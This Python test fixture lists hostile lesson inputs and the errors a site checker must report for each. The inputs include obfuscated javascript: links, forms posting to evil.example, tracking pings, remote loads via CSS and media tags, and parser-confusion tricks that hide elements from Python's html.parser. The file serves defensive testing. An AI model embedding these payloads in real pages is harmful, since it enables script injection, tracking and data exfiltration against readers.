"""Hostile URLs in a lesson (issue 30, classes 3 and 4): each with the exact `path:line: message` lines that both
`seokb check` and the build must print. The lesson is hostile_cases.lesson(body, front): its body starts on line 6,
or on line 7 with a `raw_html` reason in the front matter."""

from __future__ import annotations

R = 'raw_html: "a figure"\n'
SCRIPT = "'{}:' links are not allowed; link to an https page instead"
ELSEWHERE = "the site loads nothing from another host: save the file under docs/ and use its path there"


def loads(where: str, host: str = "evil.example") -> str:
    return f"{where} loads a file from {host}; {ELSEWHERE}"


# (name, front matter, body, [(line, message)])
URL_CASES: list[tuple[str, str, str, list[tuple[int, str]]]] = [
    # 3. javascript: hidden from a reader of lines: a browser drops tabs and newlines and decodes entities first
    ("href split by a newline", R, '<a href="java\nscript:alert(1)">x</a>', [(7, SCRIPT.format("javascript"))]),
    ("href split by a tab entity", R, '<a href="jav&#x09;ascript:alert(1)">x</a>', [(7, SCRIPT.format("javascript"))]),
    ("href with a decimal entity", R, '<a href="&#106;avascript:alert(1)">x</a>', [(7, SCRIPT.format("javascript"))]),
    ("href with &colon; in capitals", R, '<a href="JaVaScRiPt&colon;alert(1)">x</a>', [(7, SCRIPT.format("javascript"))]),
    ("href with &NewLine;", R, '<a href="java&NewLine;script:alert(1)">x</a>', [(7, SCRIPT.format("javascript"))]),
    ("href led by a space and a control", R, '<a href=" &#1; javascript:alert(1)">x</a>', [(7, SCRIPT.format("javascript"))]),
    (
        "formaction split by a tab",
        R,
        '<form action="#"><button formaction="java\tscript:alert(1)">Go</button></form>',
        [(7, SCRIPT.format("javascript"))],
    ),
    (
        "svg xlink:href split by a newline",
        R,
        '<svg><a xlink:href="java\nscript:alert(1)"><text>x</text></a></svg>',
        [(7, SCRIPT.format("javascript"))],
    ),
    ("a tag split over lines", R, 'A link: <a\nhref="vb&#115;cript:msgbox(1)">x</a>', [(8, SCRIPT.format("vbscript"))]),
    ("data: link with an entity", R, '<a href="d&#x61;ta:text/html,x">x</a>', [(7, SCRIPT.format("data"))]),
    (
        "ftp: link",
        R,
        '<a href="ftp://example.org/file">x</a>',
        [
            (
                7,
                "<a href=\"ftp://example.org/file\"> uses 'ftp:'; a link may point inside this site or to an https:, http: "
                "or mailto: address",
            )
        ],
    ),
    (
        "scheme-relative link",
        R,
        '<a href="//evil.example/">x</a>',
        [(7, '<a href="//evil.example/"> has no scheme; write https://')],
    ),
    (
        "form sent to another host",
        R,
        '<form action="https://evil.example/collect"><button>Go</button></form>',
        [
            (
                7,
                '<form action="https://evil.example/collect"> sends the form to evil.example; a form may only send to '
                "this site's own pages",
            )
        ],
    ),
    # 4. requests to another host, with no raw HTML at all
    (
        "remote Markdown image",
        "",
        "![A chart](https://evil.example/p.png)",
        [(6, loads('<img src="https://evil.example/p.png">'))],
    ),
    (
        "attr_list style with url()",
        "",
        'A paragraph.\n{ style="background:url(https://evil.example/x)" }',
        [(7, loads("url(https://evil.example/x) in the style of <p>"))],
    ),
    (
        "attr_list style on a list item",
        "",
        '- One.\n- Two { style="background-image:url(//evil.example/x)" }',
        [(7, loads("url(//evil.example/x) in the style of <li>"))],
    ),
    (
        "attr_list style on a heading",
        "",
        '## A heading { style="background:url(https://evil.example/h)" }',
        [(6, loads("url(https://evil.example/h) in the style of <h2>"))],
    ),
    (
        "attr_list src on a local image",
        "",
        '![A chart](chart.png){ src="https://evil.example/p.png" }',
        [(6, loads('<img src="https://evil.example/p.png">'))],
    ),
    # 4. ... and with a raw-HTML reason
    (
        "meta refresh",
        R,
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        [
            (
                7,
                '<meta http-equiv="refresh"> sends the reader away by itself, which a page may not do; for a moved page, '
                "list its old address under redirect_from in the new page's front matter",
            )
        ],
    ),
    (
        "meta refresh to this site",
        R,
        '<meta http-equiv="Refresh" content="5">',
        [
            (
                7,
                '<meta http-equiv="refresh"> sends the reader away by itself, which a page may not do; for a moved page, '
                "list its old address under redirect_from in the new page's front matter",
            )
        ],
    ),
    (
        "remote stylesheet",
        R,
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        [(7, loads('<link href="https://evil.example/x.css">'))],
    ),
    (
        "@import in a style element",
        R,
        '<style>\n@import "https://evil.example/x.css";\n</style>',
        [(8, loads("url(https://evil.example/x.css) in a <style> element"))],
    ),
    (
        "CSS-escaped url() in a style",
        R,
        '<p style="background: u\\72l(https://evil.example/x)">x</p>',
        [(7, loads("url(https://evil.example/x) in the style of <p>"))],
    ),
    ("remote img", R, '<img src="https://evil.example/p.png" alt="x">', [(7, loads('<img src="https://evil.example/p.png">'))]),
    ("scheme-relative img", R, '<img src="//evil.example/p.png" alt="x">', [(7, loads('<img src="//evil.example/p.png">'))]),
    ("backslash img", R, '<img src="/\\evil.example/p.png" alt="x">', [(7, loads('<img src="/\\evil.example/p.png">'))]),
    (
        "remote srcset candidate",
        R,
        '<img src="chart.png" srcset="chart.png 1x, https://evil.example/p2.png 2x" alt="x">',
        [(7, loads('<img srcset="https://evil.example/p2.png">'))],
    ),
    (
        "remote iframe",
        R,
        '<iframe src="https://evil.example/"></iframe>',
        [
            (7, loads('<iframe src="https://evil.example/">')),
            (7, "the page renders a <iframe> element; pages may not run or embed script"),
        ],
    ),
    (
        "video poster",
        R,
        '<video poster="https://evil.example/p.jpg"></video>',
        [(7, loads('<video poster="https://evil.example/p.jpg">'))],
    ),
    ("audio", R, '<audio src="https://evil.example/a.mp3"></audio>', [(7, loads('<audio src="https://evil.example/a.mp3">'))]),
    (
        "video source",
        R,
        '<video>\n<source src="https://evil.example/v.mp4">\n</video>',
        [(8, loads('<source src="https://evil.example/v.mp4">'))],
    ),
    (
        "object",
        R,
        '<object data="https://evil.example/x.swf"></object>',
        [
            (7, loads('<object data="https://evil.example/x.swf">')),
            (7, "the page renders a <object> element; pages may not run or embed script"),
        ],
    ),
    (
        "embed",
        R,
        '<embed src="https://evil.example/x.swf">',
        [
            (7, loads('<embed src="https://evil.example/x.swf">')),
            (7, "the page renders a <embed> element; pages may not run or embed script"),
        ],
    ),
    (
        "svg image",
        R,
        '<svg><image href="https://evil.example/p.png"/></svg>',
        [(7, loads('<image href="https://evil.example/p.png">'))],
    ),
    (
        "an SVG fill from another file",
        R,
        '<svg><rect width="9" height="9" fill="url(https://evil.example/p.svg#g)"/></svg>',
        [(7, loads("url(https://evil.example/p.svg#g) in the fill of <rect>"))],
    ),
    (
        "a link's ping",
        R,
        '<a href="https://example.org/" ping="https://evil.example/track">x</a>',
        [(7, loads('<a ping="https://evil.example/track">'))],
    ),
    # where Python's html.parser and a browser part ways: each of these hid an element the browser loads
    (
        "a comment closed as soon as it opens",
        R,
        '<!--><img src="https://evil.example/c.png">-->',
        [(7, loads('<img src="https://evil.example/c.png">'))],
    ),
    (
        "CDATA in HTML, a comment to a browser",
        R,
        '<![CDATA[><img src="https://evil.example/d.png">]]>',
        [(7, loads('<img src="https://evil.example/d.png">'))],
    ),
    (
        "a style closed by an end tag with attributes",
        R,
        '<style></style x><img src="https://evil.example/s.png"><style></style>',
        [(7, loads('<img src="https://evil.example/s.png">'))],
    ),
    (
        "a declarative shadow root",
        R,
        '<div><template shadowrootmode="open"><img src="https://evil.example/t.png"></template></div>',
        [(7, loads('<img src="https://evil.example/t.png">'))],
    ),
    (
        "an image inside inline SVG in a paragraph",
        R,
        'A picture: <svg><image href="https://evil.example/i.png"/></svg> here.',
        [(7, loads('<image href="https://evil.example/i.png">'))],
    ),
    (
        "a style inside a paragraph",
        R,
        "Text <style>@import url(https://evil.example/p.css);</style> more.",
        [(7, loads("url(https://evil.example/p.css) in a <style> element"))],
    ),
    # allowed: what the reader clicks may leave the site; what stays inside it may be anything
    (
        "links the reader clicks",
        R,
        '<a href="https://example.org/">a</a> <a href="http://example.org/">b</a> <a href="mailto:a@example.org">c</a> '
        '<a href="#lesson">d</a> <img src="chart.png" alt="a chart">',
        [],
    ),
    ("a Markdown link to another site", "", "[A page](https://example.org/page) and ![A chart](chart.png)", []),
]
